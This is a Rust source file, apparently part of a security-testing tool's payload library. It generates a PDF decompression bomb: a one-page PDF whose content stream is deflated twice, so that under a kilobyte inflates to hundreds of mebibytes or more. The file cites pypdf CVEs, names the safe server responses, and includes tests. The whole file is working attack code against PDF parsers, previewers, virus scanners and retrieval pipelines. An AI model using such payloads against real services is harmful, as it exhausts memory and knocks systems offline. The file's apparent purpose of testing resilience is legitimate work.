//! A PDF whose one page inflates, and inflates again.

use crate::payload::deflated::Deflated;
use crate::payload::pieces::{once, repeated};
use crate::payload::{About, Body, Family, Form, Group, Parameter, Takes, Turn, Values};

/// The family.
pub(super) const FAMILY: &Family = &Family {
    name: "pdf-objects",
    group: Group::Documents,
    about: About {
        summary: "A small PDF whose page is compressed twice.",
        provokes: "Text extraction, previews, retrieval pipelines, virus scanners: a filter is applied to all of a \
                   stream before the next one begins, and before anybody looks at what came out.",
        seen: "CVE-2025-55197 (pypdf issue 3429, from there mem0 issue 3397 and ragflow pull request 9469), \
               CVE-2026-27888 (pypdf, XFA).",
        becomes: "Under 1 kB on the wire (260 kB compressed once); 513 MiB in pypdf without its limit.",
        safe: "400 or 422: inflating in pieces under a limit (pypdf from 6.0: 75 MB a stream).",
    },
    parameters: &[
        Parameter {
            name: "size",
            about: "size of the page's content after decompression",
            takes: Takes::Size { least: 1, most: 1 << 40, default: 256 << 20 },
        },
        Parameter { name: "once", about: "compressed once instead of twice", takes: Takes::Flag },
    ],
    form: Form::Body(make),
};

/// White space: a content stream that draws nothing.
const CONTENT: u8 = b' ';
/// RFC 1950: deflate, 32 KiB window, no dictionary, default level.
const ZLIB: [u8; 2] = [0x78, 0x9c];

fn make(values: &Values, _: &Turn) -> Body {
    let size = values.number("size");
    // One byte is a pattern of a length at which a repeat can be written by hand, and the parts around a run
    // are some hundred bytes.
    let (stream, filters) = match (values.flag("once"), packed(size)) {
        (true, inner) => (inner, "/FlateDecode"),
        (false, inner) => (inner.and_then(packed_again), "[/FlateDecode/FlateDecode]"),
    };
    let Some((head, run, tail)) = stream else {
        return Body::new("application/pdf", 0, std::iter::empty());
    };
    let length = head.len() as u64 + run + tail.len() as u64;
    let (before, after) = around(filters, length);
    let total = before.len() as u64 + length + after.len() as u64;
    let chunks = once(before).chain(once(head)).chain(repeated(&[0], run)).chain(once(tail)).chain(once(after));
    Body::new("application/pdf", total, chunks)
}

/// A stream that is a run of zero bytes but for its beginning and its end.
type Stream = (Vec<u8>, u64, Vec<u8>);

/// So many spaces as a zlib stream (RFC 1950).
fn packed(size: u64) -> Option<Stream> {
    let (head, run, mut tail) = Deflated::new(&[], &[CONTENT], size, &[])?.parts();
    tail.extend(Adler::default().repeated(CONTENT, size).sum().to_be_bytes());
    Some(([&ZLIB[..], &head].concat(), run, tail))
}

/// A stream of this kind as a zlib stream: its run is as good a repeat as any.
fn packed_again((head, run, tail): Stream) -> Option<Stream> {
    let sum = Adler::default().all(&head).repeated(0, run).all(&tail).sum();
    let (outer, run, mut end) = Deflated::new(&head, &[0], run, &tail)?.parts();
    end.extend(sum.to_be_bytes());
    Some(([&ZLIB[..], &outer].concat(), run, end))
}

/// The file before and after the content stream (ISO 32000-1, 7.5).
fn around(filters: &str, length: u64) -> (Vec<u8>, Vec<u8>) {
    let objects = [
        "<</Type/Catalog/Pages 2 0 R>>\nendobj\n".to_owned(),
        "<</Type/Pages/Kids[3 0 R]/Count 1>>\nendobj\n".to_owned(),
        "<</Type/Page/Parent 2 0 R/MediaBox[0 0 99 99]/Resources<<>>/Contents 4 0 R>>\nendobj\n".to_owned(),
        format!("<</Filter{filters}/Length {length}>>\nstream\n"),
    ];
    let mut before = b"%PDF-1.5\n".to_vec();
    let mut table = format!("xref\n0 {}\n0000000000 65535 f \n", objects.len() + 1);
    for (index, object) in objects.iter().enumerate() {
        table.push_str(&format!("{:010} 00000 n \n", before.len()));
        before.extend(format!("{} 0 obj\n{object}", index + 1).into_bytes());
    }
    let ending = "\nendstream\nendobj\n";
    let start = before.len() as u64 + length + ending.len() as u64;
    let count = objects.len() + 1;
    let after = format!("{ending}{table}trailer\n<</Size {count}/Root 1 0 R>>\nstartxref\n{start}\n%%EOF\n");
    (before, after.into_bytes())
}

/// Adler-32 (RFC 1950) in the making.
struct Adler {
    a: u64,
    b: u64,
}

impl Default for Adler {
    fn default() -> Self {
        Self { a: 1, b: 0 }
    }
}

impl Adler {
    const MODULUS: u64 = 65_521;

    fn all(self, bytes: &[u8]) -> Self {
        bytes.iter().fold(self, |sum, byte| sum.repeated(*byte, 1))
    }

    /// A byte `n` times: `a` grows by `n·v`, and `b` by `n·a + v·n(n+1)/2`.
    fn repeated(self, byte: u8, times: u64) -> Self {
        let (wide, modulus, value) = (u128::from(times), u128::from(Self::MODULUS), u128::from(byte));
        let triangle = wide * (wide + 1) / 2 % modulus;
        let b = u128::from(self.b) + wide % modulus * u128::from(self.a) + value * triangle;
        let a = u128::from(self.a) + value * wide;
        Self { a: (a % modulus) as u64, b: (b % modulus) as u64 }
    }

    fn sum(&self) -> u32 {
        (self.b << 16 | self.a) as u32
    }
}

#[cfg(test)]
mod tests {
    use std::io::Read as _;

    use bytes::Bytes;

    use super::*;
    use crate::payload::Value;

    fn wire(size: u64, once: u64) -> Vec<u8> {
        let values = Values::defaults(FAMILY).with("size", Value::Number(size)).with("once", Value::Number(once));
        let body = make(&values, &Turn { index: 0, unique: 0, key: [0; 32] });
        let wire: Vec<Bytes> = body.chunks.collect();
        assert_eq!(wire.concat().len() as u64, body.size);
        wire.concat()
    }

    fn inflated(stream: &[u8]) -> Vec<u8> {
        let mut text = Vec::new();
        flate2::read::ZlibDecoder::new(stream).read_to_end(&mut text).unwrap();
        text
    }

    #[test]
    fn a_real_reader_finds_the_page_and_its_content() {
        for (size, once) in [(1, 0), (258, 1), (5000, 0), (5000, 1), (10_000_000, 0), (10_000_000, 1)] {
            let document = lopdf::Document::load_mem(&wire(size, once)).unwrap();
            let page = document.get_pages()[&1];
            let content = document.get_page_contents(page);
            let stream = document.get_object(content[0]).unwrap().as_stream().unwrap();
            let mut text = inflated(&stream.content);
            if once == 0 {
                text = inflated(&text);
            }
            assert!(text == vec![b' '; size as usize], "{size} {once}");
        }
    }

    #[test]
    fn a_quarter_of_a_gibibyte_is_under_a_kilobyte() {
        let size = wire(256 << 20, 0).len();
        assert!(size < 1200, "{size}");
        assert_eq!(wire(256 << 20, 1).len() / 1000, 260);
    }
}
